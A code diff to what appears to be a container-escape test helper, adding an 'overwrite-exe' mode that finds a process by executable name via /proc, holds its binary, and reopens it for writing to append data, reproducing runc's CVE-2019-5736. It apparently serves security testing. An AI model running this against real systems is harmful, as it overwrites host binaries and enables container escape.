@@ -5,6 +5,9 @@
 //   attack watch-root PATH SECS  for SECS seconds, every other process's /proc/N/root/PATH:
 //                              "reached N" when one opens (a process still in the host's root),
 //                              "privileged N" when one holds a capability the watcher lacks
+//   attack overwrite-exe NAME SECS  any process whose exe's name holds NAME: its exe held by
+//                              O_PATH, then reopened for writing once no process runs it,
+//                              and a line appended: "wrote NAME" (runc's CVE-2019-5736)
 //   attack swap-on-close DIR LINK SECS  once DIR exists, each file written in it replaced by a
 //                              symlink to LINK as soon as its writer closes it: "swapped N"
 #include <dirent.h>
@@ -109,6 +112,49 @@ static int watch_root(const char *target, int secs)
 	return 0;
 }
 
+static int overwrite_exe(const char *name, int secs)
+{
+	char self[16];
+	snprintf(self, sizeof self, "%d", getpid());
+	time_t end = time(NULL) + secs;
+	int held = -1;
+	printf("ready\n");
+	while (held < 0 && time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		for (struct dirent *e; d && (e = readdir(d));) {
+			if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0 || strcmp(e->d_name, "1") == 0)
+				continue; // PID 1 (the container's launcher): attacks.bats's pid1-exe tries it
+			char path[300], link[512];
+			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+			ssize_t n = readlink(path, link, sizeof link - 1);
+			if (n <= 0)
+				continue;
+			link[n] = 0;
+			if (strstr(link, name) &&
+			    (held = open(path, O_PATH | O_CLOEXEC)) >= 0) {
+				printf("held %s (%s)\n", link, e->d_name);
+				break;
+			}
+		}
+		if (d)
+			closedir(d);
+	}
+	while (held >= 0 && time(NULL) < end) {
+		char path[64];
+		snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+		if (w >= 0) {
+			ssize_t n = write(w, "pwned\n", 6);
+			printf(n == 6 ? "wrote %s\n" : "%s: opened, not written: %s\n", name, n == 6 ? "" : strerror(errno));
+			close(w);
+			return 0;
+		}
+		usleep(1000);
+	}
+	printf("gave up\n");
+	return 0;
+}
+
 static int swap_on_close(const char *dir, const char *link, int secs)
 {
 	time_t end = time(NULL) + secs;
@@ -139,8 +185,10 @@ int main(int argc, char **argv)
 		return pid1_exe(argv[2]);
 	if (argc == 4 && strcmp(argv[1], "watch-root") == 0)
 		return watch_root(argv[2], atoi(argv[3]));
+	if (argc == 4 && strcmp(argv[1], "overwrite-exe") == 0)
+		return overwrite_exe(argv[2], atoi(argv[3]));
 	if (argc == 5 && strcmp(argv[1], "swap-on-close") == 0)
 		return swap_on_close(argv[2], argv[3], atoi(argv[4]));
-	fprintf(stderr, "usage: attack pid1-exe PID | watch-root PATH SECS | swap-on-close DIR LINK SECS\n");
+	fprintf(stderr, "usage: attack pid1-exe PID | watch-root PATH SECS | overwrite-exe NAME SECS | swap-on-close DIR LINK SECS\n");
 	return 2;
 }
